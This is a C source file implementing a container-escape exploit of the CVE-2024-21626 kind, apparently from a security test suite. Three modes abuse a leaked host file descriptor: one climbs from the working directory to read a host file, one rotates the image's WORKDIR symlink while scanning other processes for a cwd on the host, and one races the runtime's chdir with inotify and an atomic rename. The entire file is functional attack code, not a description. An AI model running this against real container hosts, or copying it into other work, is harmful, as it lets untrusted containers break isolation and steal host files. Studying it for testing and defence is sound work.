/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Working directory through a leaked host fd (CVE-2024-21626 class).
 *
 *   cwd here HOSTFILE
 *       From the current directory, climb out and steal HOSTFILE (the
 *       healthcheck's and exec's command). Prints where it started.
 *   cwd rotate LINK HOSTFILE HOLD_MS FD...
 *       The image's first process: replace LINK (the image's WORKDIR) by a
 *       symlink to /proc/self/fd/FD, each FD in turn for HOLD_MS, forever,
 *       printing "cycle done" after each round. Meanwhile watch every other
 *       process of the container: one whose cwd lies on the host (an exec
 *       or a healthcheck that followed the link) is used to steal HOSTFILE.
 *       After an escape the link stays where it worked.
 *   cwd pounce DIR NAME FD...
 *       From a second container sharing a volume with the victim, whose
 *       working directory is DIR/NAME there: keep DIR/NAME absent; when the
 *       runtime creates it (it makes a missing working directory before
 *       pivot_root, and chdir()s to it by path afterwards), swap a symlink to
 *       /proc/self/fd/FD in for it at once, then clear it for the next
 *       attempt. FD rotates with each attempt. Runs until killed.
 */
#define _GNU_SOURCE
#include "escape.h"

#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

static long long now_ms(void)
{
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int here(const char *host_path)
{
        char cwd[4096];
        if (getcwd(cwd, sizeof(cwd)) == NULL)
                snprintf(cwd, sizeof(cwd), "(unreachable: %s)", strerror(errno));
        printf("cwd: %s\n", cwd);
        if (escape_steal(AT_FDCWD, host_path, "the working directory")) {
                /* Tell the image's first process that this link worked. */
                int fd = open("/escaped", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
                if (fd >= 0)
                        close(fd);
                return 0;
        }
        printf("stayed inside\n");
        return 0;
}

static void point_link(const char *link, int fd)
{
        char target[64], tmp[4096];
        snprintf(target, sizeof(target), "/proc/self/fd/%d", fd);
        snprintf(tmp, sizeof(tmp), "%s.new", link);
        unlink(tmp);
        if (symlink(target, tmp) < 0 || rename(tmp, link) < 0) {
                printf("cannot point %s at %s: %s\n", link, target, strerror(errno));
                fflush(stdout);
        }
}

/* Every other process of the container: is its cwd on the host? */
static bool watch(const char *host_path)
{
        static int done_pid;
        DIR *d = opendir("/proc");
        if (d == NULL)
                return false;
        bool hit = false;
        pid_t self = getpid();
        struct dirent *e;
        while (!hit && (e = readdir(d)) != NULL) {
                int pid = atoi(e->d_name);
                if (pid <= 0 || pid == self || pid == done_pid)
                        continue;
                char p[64];
                snprintf(p, sizeof(p), "/proc/%d/cwd", pid);
                int fd = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
                if (fd < 0)
                        continue;
                snprintf(p, sizeof(p), "the cwd of pid %d", pid);
                hit = escape_steal(fd, host_path, p);
                if (hit)
                        done_pid = pid;
                close(fd);
        }
        closedir(d);
        return hit;
}

_Noreturn static void rotate(const char *link, const char *host_path, int hold_ms, char **fds,
                             int n)
{
        /* The image's WORKDIR is a real directory: it goes first. */
        rmdir(link);
        bool held = false;
        for (;;) {
                for (int i = 0; i < n; i++) {
                        int fd = atoi(fds[i]);
                        if (!held) {
                                point_link(link, fd);
                                printf("%s -> /proc/self/fd/%d\n", link, fd);
                                fflush(stdout);
                        }
                        long long end = now_ms() + hold_ms;
                        while (held || now_ms() < end) {
                                if (watch(host_path) || access("/escaped", F_OK) == 0) {
                                        if (!held)
                                                printf("holding %s -> /proc/self/fd/%d\n", link,
                                                       fd);
                                        fflush(stdout);
                                        held = true;
                                }
                                usleep(1000);
                        }
                }
                printf("cycle done\n");
                fflush(stdout);
        }
}

static int pounce(const char *dir, const char *name, char **fds, int n)
{
        if (chdir(dir) < 0) {
                perror(dir);
                return 1;
        }
        int in = inotify_init1(IN_CLOEXEC);
        if (in < 0 || inotify_add_watch(in, ".", IN_CREATE | IN_ONLYDIR) < 0) {
                perror("inotify");
                return 1;
        }
        char spare[256];
        snprintf(spare, sizeof(spare), "%s.link", name);
        for (unsigned long k = 0;; k++) {
                const char *fd = fds[k % n];
                char t[64];
                snprintf(t, sizeof(t), "/proc/self/fd/%s", fd);
                unlink(spare);
                rmdir(spare);
                unlink(name);
                rmdir(name);
                if (symlink(t, spare) < 0) {
                        perror(spare);
                        return 1;
                }
                printf("waiting for %s/%s (next: %s)\n", dir, name, t);
                fflush(stdout);
                for (bool made = false; !made;) {
                        char buf[4096] __attribute__((aligned(8)));
                        ssize_t len = read(in, buf, sizeof(buf));
                        for (char *p = buf; len > 0 && p < buf + len;) {
                                struct inotify_event *ev = (struct inotify_event *)p;
                                if (ev->len && strcmp(ev->name, name) == 0)
                                        made = true;
                                p += sizeof(*ev) + ev->len;
                        }
                }
                /* At once: the runtime's chdir() comes well under a millisecond
                 * after it made the directory (a delay of 1 ms lost most races). */
                if (renameat2(AT_FDCWD, spare, AT_FDCWD, name, RENAME_EXCHANGE) < 0)
                        perror("renameat2");
                usleep(20 * 1000);
        }
}

int main(int argc, char **argv)
{
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc == 3 && strcmp(argv[1], "here") == 0)
                return here(argv[2]);
        if (argc >= 6 && strcmp(argv[1], "rotate") == 0)
                rotate(argv[2], argv[3], atoi(argv[4]), argv + 5, argc - 5);
        if (argc >= 5 && strcmp(argv[1], "pounce") == 0)
                return pounce(argv[2], argv[3], argv + 4, argc - 4);
        fprintf(stderr,
                "usage: cwd here HOSTFILE | rotate LINK HOSTFILE HOLD_MS FD... | pounce DIR "
                "NAME FD...\n");
        return 2;
}
